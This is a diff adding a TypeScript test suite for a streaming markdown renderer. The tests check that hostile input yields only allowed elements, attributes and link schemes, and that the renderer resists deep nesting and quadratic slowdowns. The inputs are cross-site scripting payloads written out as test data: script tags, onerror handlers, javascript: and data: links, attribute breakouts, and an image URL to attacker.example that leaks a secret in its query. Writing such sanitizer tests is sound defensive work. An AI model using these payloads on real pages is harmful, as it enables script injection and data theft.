@@ -1,0 +1,211 @@
+import { expect } from 'chai';
+import * as fc from 'fast-check';
+
+import { MarkdownWriter } from '../../src/markdown/index.js';
+import { describeWithFixtures, fixtureJson } from '../support/index.js';
+import { render } from './render.js';
+
+const TAGS =
+  'p br hr h1 h2 h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr th td a span';
+const ALLOWED = new Set(TAGS.split(' '));
+const CLASSES = new Set(['loose', 'task', 'done', 'start', 'center', 'end', 'link', 'image']);
+const ATTRIBUTES: Record<string, string[]> = { a: ['href', 'target', 'rel', 'title'], ol: ['start'] };
+
+/** What must not be there: elements, attributes, classes and schemes beyond the few that are written. */
+function unsafe(root: Element): string[] {
+  return [...root.querySelectorAll('*')].flatMap((element) => {
+    const { localName: tag } = element;
+    const attributes = [...element.attributes].map(({ name }) => name);
+    const known = ['class', 'dir', ...(ATTRIBUTES[tag] ?? [])];
+    return [
+      ...(ALLOWED.has(tag) ? [] : [tag]),
+      ...attributes.filter((name) => !known.includes(name)),
+      ...[...element.classList].filter((name) => !CLASSES.has(name)),
+      ...(element instanceof HTMLAnchorElement && !/^(?:https?|mailto|tel):/.test(element.href)
+        ? [element.href]
+        : []),
+    ];
+  });
+}
+
+/** The same after each piece as at the end. */
+function expectSafe(pieces: string[], name: string): HTMLElement {
+  const root = document.createElement('div');
+  const writer = new MarkdownWriter(root);
+  for (const piece of pieces) {
+    writer.write(piece);
+    expect(unsafe(root), name).to.deep.equal([]);
+  }
+  writer.end();
+  expect(unsafe(root), name).to.deep.equal([]);
+  return root;
+}
+
+describe('hostile markdown', () => {
+  const inputs = [
+    '<script>alert(1)</script><img src=x onerror=alert(1)>',
+    '![x](https://attacker.example/p?q=SECRET) ![y][1]\n\n[1]: /logout "t"',
+    '[a](javascript:alert(1)) <javascript:alert(1)> [b](<data:text/html,x>) [c]\n\n[c]: vbscript:x',
+    '[a](https://x.example "\\" onclick=alert(1)") [b](https://x.example/" onclick="y)',
+    '```js" onclick="x\n</code></pre><script>x</script>\n```',
+    '| a" onclick=x |\n|:-:|\n| <style>*{}</style> |',
+    '1"onclick=x. a\n\n<form id=x><input name=y></form>\n\n<a href="https://x.example" style="position:fixed">b</a>',
+    '[constructor][__proto__] [toString]\n\n| constructor | b |\n|---|---|\n',
+  ];
+  for (const input of inputs) {
+    it(`stays text: ${input.slice(0, 40)}`, () => {
+      expectSafe(Array.from(input), input);
+      expectSafe([input], input);
+    });
+  }
+
+  it('keeps what a reader should see', () => {
+    const html = '<b onclick="x">bold</b> <script>go()</script>';
+    expect(render(html).textContent).to.equal(html);
+  });
+
+  it('writes nothing but the few elements and attributes, whatever comes', () => {
+    const bits = [
+      '<img src=x>',
+      '![',
+      '](',
+      'javascript:x',
+      'https://a.example/',
+      ')',
+      '"',
+      '<a href=',
+      '>',
+      '\n',
+      '```',
+      '|',
+      '|-|',
+      '- ',
+    ];
+    const text = fc.array(fc.oneof(fc.constantFrom(...bits), fc.string()), { maxLength: 30 });
+    fc.assert(
+      fc.property(text, (pieces) => void expectSafe(pieces, pieces.join(''))),
+      { numRuns: 200 },
+    );
+  });
+
+  it('nests no deeper than a page can bear', () => {
+    for (const unit of ['> ', '- ', '1. ', '**a *b ', '[', '*', '> - ', '![']) {
+      const root = render(`${unit.repeat(5000)}x ${unit.trim().repeat(50)}`);
+      let depth = 0;
+      for (let element = root as Element | null; element; element = deepest(element)) depth++;
+      expect(depth, unit).to.be.lessThan(200);
+    }
+  });
+
+  describe('takes time in proportion to its length', function () {
+    this.timeout(60_000);
+    this.retries(2);
+    const units = {
+      quotes: '> ',
+      items: '- ',
+      emphasis: '_a_',
+      openers: '*a **b ',
+      links: '[a](',
+      titles: '[x](y "',
+      brackets: '[',
+      closers: '[a]',
+      images: '![',
+      backticks: 'a`',
+      runs: '`a ``b ',
+      less: '<',
+      entities: '&',
+      escapes: '\\',
+      bars: '| ',
+      rules: '* ',
+      spaces: '  x',
+      definitions: '[a]: b\n',
+      fences: '```\n',
+      words: 'word ',
+      paragraphs: 'a *b*\n\n',
+      mails: '<a@',
+    };
+    for (const [name, unit] of Object.entries(units)) {
+      it(name, () => {
+        const time = (count: number): number => {
+          const text = `${unit.repeat(count)}x`;
+          const start = performance.now();
+          render(text);
+          return performance.now() - start;
+        };
+        const best = (count: number): number => Math.min(...[1, 2, 3].map(() => time(count)));
+        const few = best(5000);
+        const many = best(20_000);
+        // Four times the text; quadratic would be sixteen times the time. Clocks are coarse, so small times do not count.
+        expect(many, `${few} ms, then ${many} ms`).to.be.lessThan(9 * Math.max(few, 4));
+      });
+    }
+
+    it('each delta of a long answer', () => {
+      const block = 'Some *text* with `code`.\n\n- item\n- item\n\n```\ncode\n```\n\n';
+      const root = document.createElement('div');
+      const writer = new MarkdownWriter(root);
+      const time = (): number => {
+        const start = performance.now();
+        for (let round = 0; round < 10; round++) for (const character of block) writer.write(character);
+        return performance.now() - start;
+      };
+      time();
+      const early = Math.min(time(), time(), time());
+      writer.write(block.repeat(2000));
+      const late = Math.min(time(), time(), time());
+      expect(late, `${early} ms, then ${late} ms`).to.be.lessThan(4 * Math.max(early, 4));
+    });
+  });
+});
+
+const deepest = (element: Element): Element | null =>
+  [...element.children].reduce<Element | null>(
+    (best, child) =>
+      !best || child.querySelectorAll('*').length > best.querySelectorAll('*').length ? child : best,
+    null,
+  );
+
+describeWithFixtures('the collection of hostile markdown', () => {
+  interface Hostile {
+    id: string;
+    input?: string;
+    gen?: { prefix: string; unit: string; times: number; suffix: string };
+    chunks?: string[];
+  }
+  interface Benign {
+    id: string;
+    input: string;
+    text: string;
+    text_one_of?: string[];
+    elements?: Record<string, number>;
+  }
+  let collection: { hostile: Hostile[]; benign: Benign[] };
+  before(async () => {
+    collection = await fixtureJson('hostile/xss-markdown.json');
+  });
+
+  it('leaves nothing unsafe, whole or in pieces', function () {
+    this.timeout(120_000);
+    for (const { id, input, gen, chunks } of collection.hostile) {
+      const text = input ?? gen!.prefix + gen!.unit.repeat(gen!.times) + gen!.suffix;
+      const whole = expectSafe([text], id);
+      if (text.length > 2000) continue;
+      expect(expectSafe(Array.from(text), id).isEqualNode(whole), id).to.equal(true);
+      if (chunks) expect(expectSafe(chunks, id).isEqualNode(whole), id).to.equal(true);
+    }
+  });
+
+  it('leaves honest text alone', () => {
+    for (const { id, input, text, text_one_of: others = [], elements = {} } of collection.benign) {
+      const root = render(input);
+      // A placeholder names the host beside the alternative text.
+      const shown = root.textContent.replace('img.safe.example', '').replace(/\s+/g, '');
+      expect(
+        [text, ...others].map((one) => one.replace(/\s+/g, '')),
+        id,
+      ).to.include(shown);
+      for (const [tag, count] of Object.entries(elements))
+        expect(root.querySelectorAll(tag).length, `${id} ${tag}`).to.equal(count);
+    }
+  });
+});
